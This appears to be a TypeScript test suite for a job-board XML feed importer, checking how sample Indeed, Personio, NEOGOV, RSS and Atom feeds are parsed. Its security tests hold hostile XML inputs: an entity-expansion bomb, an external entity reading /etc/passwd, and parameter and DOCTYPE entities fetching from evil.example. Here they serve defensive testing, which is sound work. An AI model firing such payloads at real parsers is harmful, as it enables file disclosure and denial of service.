import { IMPORT_ROW_MAX } from '@market/contracts/job-posts';
import type { PublicJob } from '@market/contracts/job-posts';
import { presentBoardFeed } from '../src/present/present-board-feed';
import { fileContent } from '../src/domain/import/file-content';
import { readImport, type ReadRow } from '../src/domain/import/read-import';

async function jobsIn(content: string) {
  const { columns, batches, problem } = await readImport({ content, format: 'xml' });
  const rows = [...batches].flat();
  const jobs = rows.filter((row): row is ReadRow => 'job' in row);
  return {
    columns,
    problem,
    lines: jobs.map(({ line }) => line),
    jobs: jobs.map(({ job }) => job),
    refused: rows.filter((row) => 'reason' in row),
  };
}

/** Feeds in the shape of each system, invented, with what they say. */
const FEEDS: Array<[system: string, xml: string, job: object, words: string[]]> = [
  [
    'Indeed',
    `<?xml version="1.0" encoding="utf-8"?>
<source>
  <publisher>Lamps</publisher><lastBuildDate>Mon, 02 Mar 2026 10:00:00 GMT</lastBuildDate>
  <job>
    <title><![CDATA[Keeper & cleaner]]></title>
    <date><![CDATA[Mon, 05 Jan 2026 10:00:00 GMT]]></date>
    <referencenumber><![CDATA[K-7]]></referencenumber>
    <url><![CDATA[https://jobs.example/k-7]]></url>
    <company><![CDATA[Harbour]]></company>
    <city><![CDATA[Portland]]></city><state><![CDATA[ME]]></state><country><![CDATA[US]]></country>
    <description><![CDATA[<p>Tend the light.</p><ul><li>Steady hands</li></ul>]]></description>
    <salary><![CDATA[$50,000 - $60,000 per year]]></salary>
    <jobtype><![CDATA[parttime]]></jobtype>
    <expirationdate><![CDATA[2026-12-31]]></expirationdate>
  </job>
</source>`,
    {
      job_title: 'Keeper & cleaner',
      job_location: 'Portland, ME, US',
      salary: 50_000,
      salary_max: 60_000,
      currency: 'USD',
      emp_type: 'part_time',
      company: 'Harbour',
      created_at: new Date('2026-01-05T10:00:00.000Z'),
    },
    ['Tend the light', 'Steady hands', 'https://jobs.example/k-7'],
  ],
  [
    'Personio',
    `<workzag-jobs><position>
      <id>12</id><subcompany>Harbour GmbH</subcompany><office>München</office>
      <additionalOffices><office>Hamburg</office><office>Berlin</office></additionalOffices>
      <department>Licht</department><recruitingCategory>Praktikum</recruitingCategory>
      <name>Wärter (m/w/d)</name>
      <jobDescriptions>
        <jobDescription><name>Aufgaben</name><value><![CDATA[<ul><li>Licht h&uuml;ten</li></ul>]]></value></jobDescription>
        <jobDescription><name>Profil</name><value><![CDATA[<p>Ruhige Hand</p>]]></value></jobDescription>
      </jobDescriptions>
      <employmentType>permanent</employmentType><schedule>part-time</schedule>
      <createdAt>2026-01-05T09:00:00+01:00</createdAt>
    </position></workzag-jobs>`,
    {
      job_title: 'Wärter (m/w/d)',
      job_location: 'München; Hamburg; Berlin',
      created_at: new Date('2026-01-05T08:00:00Z'),
    },
    ['Aufgaben', 'Licht hüten', 'Profil', 'Ruhige Hand'],
  ],
  [
    'NEOGOV',
    `<rss version="2.0" xmlns:joblisting="http://www.neogov.com/namespaces/JobListing"><channel><title>Jobs</title>
      <item><title>Keeper</title><link>https://jobs.example/9</link><description>Tend the light.</description>
      <joblisting:jobId>9</joblisting:jobId><joblisting:location>Portland</joblisting:location><joblisting:state>Maine</joblisting:state>
      <joblisting:minimumSalary>20.50</joblisting:minimumSalary><joblisting:maximumSalary>25</joblisting:maximumSalary>
      <joblisting:salaryInterval>Hour</joblisting:salaryInterval><joblisting:jobType>Part-Time</joblisting:jobType>
      <joblisting:advertiseToDate>2026-12-31</joblisting:advertiseToDate></item></channel></rss>`,
    { job_title: 'Keeper', job_location: 'Portland, Maine', salary_period: 'hour', emp_type: 'part_time' },
    ['Tend the light'],
  ],
  [
    'RSS',
    `<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/" xmlns:media="m"><channel><title>All</title><item>
      <title>Keeper</title><media:title>A picture</media:title><link>https://jobs.example/1</link><guid isPermaLink="false">g-1</guid>
      <pubDate>Mon, 05 Jan 2026 10:00:00 GMT</pubDate><location>Oslo</location><description>Short</description>
      <content:encoded><![CDATA[<p>Tend the light.</p>]]></content:encoded></item></channel></rss>`,
    { job_title: 'Keeper', job_location: 'Oslo', created_at: new Date('2026-01-05T10:00:00.000Z') },
    ['Tend the light', 'https://jobs.example/1'],
  ],
  [
    'Atom',
    `<feed xmlns="http://www.w3.org/2005/Atom"><title>All</title><entry><title type="html">Keeper</title><id>urn:1</id>
      <link rel="alternate" href="https://jobs.example/1"/><link rel="edit" href="https://jobs.example/edit"/>
      <published>2026-01-05T10:00:00Z</published><updated>2026-02-05T10:00:00Z</updated><content type="html">&lt;p&gt;Tend the light.&lt;/p&gt;</content></entry></feed>`,
    { job_title: 'Keeper', created_at: new Date('2026-01-05T10:00:00.000Z') },
    ['Tend the light'],
  ],
  [
    'a list of one’s own',
    `<jobs><job id="77"><title>Keeper</title><location><city>Oslo</city></location><description>Needs <b>steady</b> hands &amp; eyes, 3 &lt; 5.<ul><li>Light</li></ul></description></job></jobs>`,
    { job_title: 'Keeper' },
    ['steady', 'hands &amp; eyes, 3 &lt; 5', 'Light'],
  ],
];

describe('an XML feed', () => {
  test.each(FEEDS)('of %s is read', async (_system, xml, job, words) => {
    const { jobs, refused } = await jobsIn(xml);
    expect(refused).toEqual([]);
    expect(jobs).toMatchObject([job]);
    for (const word of words) expect(jobs[0]?.job_description).toContain(word);
    expect(jobs[0]?.job_description).not.toMatch(/CDATA|&amp;(?:uuml|lt);/);
  });

  test('says the line of each job, and ids keep jobs apart', async () => {
    const { lines, jobs } = await jobsIn(
      '<jobs>\n<job><id>1</id><title>A keeper</title></job>\n\n<job><id>2</id><title>A keeper</title></job></jobs>',
    );
    expect(lines).toEqual([2, 4]);
    expect(new Set(jobs.map(({ row_key }) => row_key)).size).toBe(2);
  });

  test('is recognised by its name or beginning, in the encoding that it states', () => {
    const xml = '<?xml version="1.0" encoding="ISO-8859-2"?><jobs><job><title>Zażółć</title></job></jobs>';
    const bytes = Buffer.from(xml.replace('Zażółć', '@'), 'latin1');
    const latin2 = Buffer.concat([
      bytes.subarray(0, bytes.indexOf('@')),
      Buffer.from([0x5a, 0x61, 0xbf, 0xf3, 0xb3, 0xe6]),
      bytes.subarray(bytes.indexOf('@') + 1),
    ]);
    expect(fileContent(latin2, 'feed')).toMatchObject({
      format: 'xml',
      content: xml,
      encoding: 'iso-8859-2',
      isSure: true,
    });
    expect(fileContent(Buffer.from('<jobs/>'), 'jobs')).toMatchObject({ format: 'xml' });
    expect(fileContent(Buffer.from('title\n<b>'), 'jobs.csv')).toMatchObject({ format: 'csv' });
  });

  const BOMB =
    '<!DOCTYPE a [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]><jobs><job><title>&b;</title></job></jobs>';
  const FILE = '<!DOCTYPE a [<!ENTITY f SYSTEM "file:///etc/passwd">]><jobs><job><title>&f;</title></job></jobs>';
  const PARAMETER =
    '<!DOCTYPE a [<!ENTITY % p SYSTEM "https://evil.example/x.dtd"> %p;]><jobs><job><title>x</title></job></jobs>';
  test.each([
    ['with entities of its own', BOMB, 'entities of its own'],
    ['with an entity that is a file', FILE, 'entities of its own'],
    ['with a parameter entity', PARAMETER, 'entities of its own'],
    ['without an end', '<jobs><job><title>Keeper</title></job>', 'not valid XML'],
    ['with tags that cross', '<jobs><job><title>Keeper</job></title></jobs>', 'not valid XML'],
    ['nested without end', '<a>'.repeat(100_000), 'nested too deeply'],
    ['without a job', '<ships><ship><name>Ann</name></ship></ships>', 'Elements: ships, ship, name'],
    ['that is a page', '<!DOCTYPE html><html><body><p>Moved</p></body></html>', 'web page'],
  ])('S133 %s is refused', async (_what, xml, says) => {
    await expect(jobsIn(xml)).rejects.toMatchObject({ fields: { content: expect.stringContaining(says) } });
  });

  test('S133 a document type from elsewhere is never loaded, and unknown entities stay as they are', async () => {
    const { jobs } = await jobsIn(
      '<!DOCTYPE rss PUBLIC "-//N//DTD RSS 0.91//EN" "https://evil.example/rss.dtd"><jobs><job><title>Caf&eacute; keeper &secret;</title></job></jobs>',
    );
    expect(jobs[0]?.job_title).toBe('Café keeper &secret;');
  });

  test('S133 a job that is longer or has more fields than any is refused alone', async () => {
    const fields = Array.from({ length: 300 }, (_, at) => `<f${String(at)}>x</f${String(at)}>`).join('');
    const { jobs, refused } = await jobsIn(
      `<jobs><job><title>Long</title><text>${'x'.repeat(IMPORT_ROW_MAX + 1)}</text></job><job>${fields}</job><job><title>Keeper</title></job></jobs>`,
    );
    expect(jobs.map(({ job_title }) => job_title)).toEqual(['Keeper']);
    expect(refused).toMatchObject([
      { reason: expect.stringContaining('longer') },
      { reason: expect.stringContaining('more than 200 fields') },
    ]);
  });
});

test('the file that this site gives job boards says the same when it is read again', async () => {
  const job: Partial<PublicJob> = {
    id: 'job-1',
    job_title: 'Harbour pilot',
    job_description: '<p>Bring <strong>ships</strong> in.</p>',
    job_location: 'Oslo, Norway',
    salary: '310',
    salary_max: '350',
    currency: 'NOK',
    salary_period: 'hour',
    emp_type: 'part_time',
    work_mode: 'hybrid',
    exp_min: 5,
    cate_desc: 'Transport',
    closes_at: '2030-05-31T23:59:59.999Z',
    cmp_name: 'Tide & Co',
    created_at: '2026-03-01T08:00:00.000Z',
    updated_at: '2026-03-01T08:00:00.000Z',
    url: 'https://jobs.example/job-details/job-1',
  };
  const place = { name: 'Oslo', region: 'Oslo', country: 'Norway' };
  // Fields that the file does not have stay out.
  const { jobs, refused } = await jobsIn(
    presentBoardFeed('https://jobs.example', [{ job: job as PublicJob, places: [place] }]),
  );
  expect(refused).toEqual([]);
  expect(jobs).toEqual([
    expect.objectContaining({
      job_title: 'Harbour pilot',
      job_location: expect.stringMatching(/^Oslo.*Norway$/),
      salary: 310,
      salary_max: 350,
      currency: 'NOK',
      salary_period: 'hour',
      emp_type: 'part_time',
      work_mode: 'hybrid',
      exp_min: 5,
      job_description: expect.stringContaining('<strong>ships</strong>'),
    }),
  ]);
});
